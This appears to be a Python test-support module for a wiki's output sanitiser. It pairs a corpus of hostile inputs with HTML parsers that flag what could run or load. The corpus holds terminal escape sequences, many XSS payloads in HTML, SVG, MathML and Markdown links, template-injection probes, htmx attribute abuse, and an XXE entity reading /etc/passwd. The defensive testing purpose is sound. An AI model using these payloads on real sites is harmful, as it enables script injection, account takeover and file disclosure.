"""What hostile documents, names, models and pages of the wiki may hold; and what must never come of it.

One corpus for every screen: nothing of it may run in the page, and none of it may steer a terminal.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

SEQUENCES = (
    "\x1b[2J", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1bc", "\x1bP$q\x1b\\", "\x1b[6n", "\x1b]52;c;ZXZpbA==\x07", "\x9b31m", "\x9d0;x\x9c", "\r\nover",
    "\x1b[999;999H",
    "[red]rich[/red]", "[link=http://evil.example]x[/link]", "[@click=app.quit]x[/]", "[[x\x1b[1m]]", "a\x00b",
)  # fmt: skip
CONTROLS = tuple(
    chr(code) for code in (*range(32), *range(127, 160), *range(0x202A, 0x202F), *range(0x2066, 0x206A))
    if chr(code) not in "\n\t"
)  # fmt: skip
TERMINAL = (*SEQUENCES, *CONTROLS)
STEERS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
"""Characters that a terminal, or the order of a line, obeys."""

_ELEMENTS = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\x0c>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<img/src='x'/onerror='alert(1)'>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<img src=`x` onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    '<img srcset="https://evil.example/a 1x">',
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<frameset onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<portal src=https://evil.example></portal>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<video poster=javascript:alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form action=/settings method=post><button>Win</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/x.html>",
    "<template><script>alert(1)</script></template>",
    "<dialog open onclose=alert(1)>Sign in</dialog>",
    "<a href=# onclick=alert(1)>x</a>",
    "<a id=main name=main>x</a>",
    "<p contenteditable onblur=alert(1)>x</p>",
    "<div onpointerrawupdate=alert(1)>x</div>",
    "<x onclick=alert(1)>x</x>",
    "<plaintext>",
    "<xmp><script>alert(1)</script>",
    "<a href=/x ping=https://evil.example>x</a>",
    "<a href=/x target=_top download>x</a>",
    "<area href=javascript:alert(1)>",
    '<comment><img src="</comment><img src=x onerror=alert(1)>">',
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x/>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "<p/onclick=alert(1)>x",
    "<a\thref\n=\njavascript:alert(1)>x",
)
_FOREIGN = (
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1)></script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
)
_ADDRESSES = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](<java\\nscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](filesystem:https://evil.example/1)",
    "[x](view-source:javascript:alert(1))",
    "[x](feed:javascript:alert(1))",
    "[x](javascript://%0aalert(1))",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/\\evil.example)",
    "[x](/settings)",
    "[x](/chat/1/delete)",
    "[x](https:evil.example)",
    "[x](ms-msdt:/id)",
    "[x](intent://x#Intent;end)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '![x" onerror="alert(1)](x)',
    '![x](x"onerror="alert(1))',
    "[![x](x)](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<vbscript:x>",
    '<https://evil.example/"onclick=alert(1)>',
    "[x]\n\n[x]: javascript:alert(1)",
    "[1]\n\n[1]: javascript:alert(1)",
    "[^1]\n\n[^1]: data:text/html,x",
    "[x][y]\n\n[y]: <javascript:alert(1)> 'z'",
    "[x](https://e.example \"' onclick='alert(1)\")",
    "[x](https://e.example '\" onclick=\"alert(1)')",
    '[a](<https://e.example/?"><script>alert(1)</script>>)',
    "[<img src=x onerror=alert(1)>](https://e.example)",
    "[x](https://e.example/`onclick=alert(1))",
    '[[x" onclick="alert(1)]]',
    "[[javascript:alert(1)|x]]",
    "[[<script>alert(1)</script>|<img src=x onerror=alert(1)>]]",
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="javas&#99;ript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    "<a href=javascript&colon;alert&lpar;1&rpar;>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/settings'>Read on</a>",
)
_TEXT = (
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "`onclick=alert(1)`",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre></code><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;alert(1)",
    "&amp;lt;script&amp;gt;",
    "\\u003cscript\\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)",
    "{{7*7}}",
    "{{ config }}",
    "{% include 'base.html' %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{# x #}",
    "{{constructor.constructor('alert(1)')()}}",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="position:fixed;inset:0;z-index:9999">Sign in</p>',
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example)}</style>",
    '<p style="width:expression(alert(1))">x</p>',
    '<p class="toast skip" role=alert>Sign in</p>',
    "<b hx-get=/settings hx-trigger=load>x</b>",
    "<b data-hx-get=/settings data-hx-trigger=load>x</b>",
    "<b hx-on:click=alert(1)>x</b>",
    "<b hx-on--load='alert(1)'>x</b>",
    "<b data-hx-on:htmx:load=alert(1)>x</b>",
    "<b hx-post=/chat/1/delete hx-trigger='every 1s'>x</b>",
    "<b hx-vals='js:{x:alert(1)}'>x</b>",
    "<b hx-ext=x hx-swap-oob='outerHTML:#main'>x</b>",
    "<div id=main hx-swap-oob=true>owned</div>",
    "<b hx-headers='js:{}' hx-include='body'>x</b>",
    "<b hx-boost=true hx-push-url=//evil.example>x</b>",
    "<div data-stream=/settings>x</div>",
    "<b x-data x-init=alert(1)>x</b>",
    "<b v-on:click=alert(1)>x</b>",
    "<b ng-init=alert(1)>x</b>",
    "<b _='on load alert(1)'>x</b>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "````\n```\n<script>alert(1)</script>\n```\n````",
    "~~~\n```\n~~~\n<script>alert(1)</script>\n```",
    "> ```\n> <script>\n</script><img src=x onerror=alert(1)>",
    "    <script>alert(1)</script>",
    "`` `<script>` ``<script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    '| <img src=x onerror=alert(1)> | x |\n|:--|--:|\n| " onclick=alert(1) | x |',
    "- <script>\n- alert(1)\n- </script>",
    "# <script>alert(1)</script>\n<img src=x onerror=alert(1)>",
    "***<b onclick=alert(1)>***",
    "<b\u202eonclick=alert(1)>x</b>",
    "\u202e<gpj.exe",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x \x00onerror=alert(1)>",
    "\ufeff<script>alert(1)</script>",
    '<a href="java\u2028script:alert(1)">x</a>',
    "data: x\n\nevent: done\ndata: <script>alert(1)</script>\n\n",
    "id: 99\r\rdata: <script>alert(1)</script>\r\r",
)
PAGE = (*_ELEMENTS, *_FOREIGN, *_ADDRESSES, *_TEXT)
PAYLOADS = (*TERMINAL, *PAGE)

_RUNS_OR_LOADS = frozenset({
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "portal", "svg", "math", "style", "link",
    "meta", "base", "form", "input", "button", "select", "textarea", "keygen", "isindex", "img", "image", "picture",
    "source", "video", "audio", "track", "canvas", "template", "noscript", "slot", "dialog", "marquee", "area",
    "map", "plaintext", "xmp", "body", "html", "head", "title", "fencedframe", "model",
})  # fmt: skip
_MAY_STAND = frozenset(
    {"class", "title", "lang", "dir", "href", "rel", "start", "colspan", "rowspan", "tabindex", "open"}
)
_SCHEMES = frozenset({"http", "https", "mailto"})
_OURS = ("/read", "/wiki", "/documents")
_CLASSES = re.compile(r"cite|page|no-page|image|wide|hl-\w{1,4}|language-[\w+#.-]+")


class _Reader(HTMLParser):
    """Reads HTML, and notes what may not stand in a text that somebody else wrote."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _RUNS_OR_LOADS or not re.fullmatch(r"[a-z][a-z0-9]*", tag):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in _MAY_STAND:
                self.found.append(f"{name}={value}")
            if name == "href":
                self.links.append(value or "")
                self.found += [f"href={value}"] if not _leads_well(value or "") else []
            if name == "class":
                self.found += [f"class={one}" for one in (value or "").split() if not _CLASSES.fullmatch(one)]

    handle_startendtag = handle_starttag

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")

    handle_pi = handle_decl = unknown_decl = handle_comment


def _leads_well(address: str) -> bool:
    """Say whether a browser, which drops blanks and line ends in an address, goes nowhere but to a page with it."""
    plain = re.sub(r"[\x00-\x20\x7f-\xa0\u2028\u2029]", "", address)
    scheme = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", plain)
    return scheme[1].lower() in _SCHEMES if scheme else plain.startswith(_OURS)


def offenses(html: str) -> list[str]:
    """Return everything in a text's HTML that could run, load, send, or pass for a part of the page."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.found


class _PageReader(HTMLParser):
    """Reads a whole page of ours, and notes what is not."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        known = dict(attrs)
        if tag in ("iframe", "object", "embed", "applet", "base", "style", "frame", "portal", "math"):
            self.found.append(f"<{tag}>")
        if tag == "script" and not (known.get("src") or "").startswith("/static/"):
            self.found.append("<script>")
        for name, value in attrs:
            address = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith(("on", "hx-on", "data-hx-")) or name in ("style", "srcdoc", "xlink:href", "ping"):
                self.found.append(f"{name}={value}")
            if name in ("href", "src", "action", "formaction") and re.match(
                r"(javascript|data|vbscript|file):", address
            ):
                self.found.append(f"{name}={value}")
            if name in ("action", "formaction", "src", "hx-get", "hx-post", "hx-delete", "data-stream") and (
                not address.startswith("/") or address.startswith(("//", "/\\"))
            ):
                self.found.append(f"{name}={value}")

    handle_startendtag = handle_starttag


def offenses_of_page(html: str) -> list[str]:
    """Return everything in a whole page that could run or send what is not ours."""
    reader = _PageReader()
    reader.feed(html)
    reader.close()
    return reader.found
